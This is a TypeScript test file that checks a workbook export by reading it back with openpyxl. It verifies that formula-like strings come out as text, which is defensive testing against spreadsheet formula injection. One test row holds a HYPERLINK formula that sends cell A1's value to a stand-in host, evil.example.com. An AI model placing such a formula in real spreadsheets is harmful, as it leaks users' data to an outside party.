import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { type WorkbookContent, createWorkbookStream } from '#features/workbook/service.ts'

// A reader that shares no code with us, where this machine has it: pip install openpyxl.

/** Prints, as JSON, the sheet's name and each row's cells as [value, type]; a formula would be of type f. */
const READ = `
import json, openpyxl, sys
book = openpyxl.load_workbook(sys.argv[1])
sheet = book.active
cells = [[[cell.value, cell.data_type] for cell in row] for row in sheet.iter_rows()]
print(json.dumps({"names": book.sheetnames, "cells": cells}))
`

const { error, status } = spawnSync('python3', ['-c', 'import openpyxl'])
const missing = error ? 'python3 is missing' : status === 0 ? '' : 'openpyxl is missing'
if (missing !== '') console.info(`workbooks are not opened by openpyxl: ${missing}`)

interface OpenedWorkbook {
  readonly names: readonly string[]
  readonly cells: readonly (readonly (readonly [value: string | number | null, type: 's' | 'n' | 'f'])[])[]
}

/** The workbook as openpyxl reads it from a file. */
async function open(content: WorkbookContent): Promise<OpenedWorkbook> {
  const folder = mkdtempSync(join(tmpdir(), 'workbook-'))
  try {
    const file = join(folder, 'export.xlsx')
    writeFileSync(file, new Uint8Array(await new Response(createWorkbookStream(content)).arrayBuffer()))
    return JSON.parse(
      execFileSync('python3', ['-c', READ, file], { encoding: 'utf8', stdio: 'pipe' }),
    ) as OpenedWorkbook
  } finally {
    rmSync(folder, { recursive: true })
  }
}

const text = (value: string) => [value, 's'] as const
const number = (value: number | null) => [value, 'n'] as const

describe.skipIf(missing !== '')('directory 7 · an exported workbook, opened by openpyxl', () => {
  it('has its name, Chinese texts and numbers; what looks like a formula is text', async () => {
    const rows = [
      ['li.na@启明', '财务“李娜” <一部> & 👩‍👧', 1.5],
      ['=1+1', '=HYPERLINK("https://evil.example.com?x="&A1,"点击")', -3],
      ['+1', '@SUM(1)', null],
      [' 两端 ', '第一行\n第二行', 0],
      ['a_b', '-1', 10_000],
    ]
    const columns = [{ header: '成员名称', width: 30 }, { header: '备注' }, { header: '流量' }]
    expect(await open({ sheetName: '连接记录', columns, rows })).toEqual({
      names: ['连接记录'],
      cells: [['成员名称', '备注', '流量'], ...rows].map((row) =>
        row.map((value) => (typeof value === 'string' ? text(value) : number(value))),
      ),
    })
  })

  it('has every row of many segments, in order', async () => {
    const row = (i: number) => [`成员${i}`, `=备注 ${(i * 7919) % 10_007}`, i] as const
    const rows = Array.from({ length: 5_000 }, (_, i) => row(i))
    const columns = ['名称', '备注', '序号'].map((header) => ({ header }))
    const { cells } = await open({ sheetName: '成员', columns, rows })
    expect(cells.slice(1).map((values) => values.map(([value]) => value))).toEqual(rows)
    expect(new Set(cells.slice(1).map((values) => values.map(([, type]) => type).join('')))).toEqual(new Set(['ssn']))
  })
})
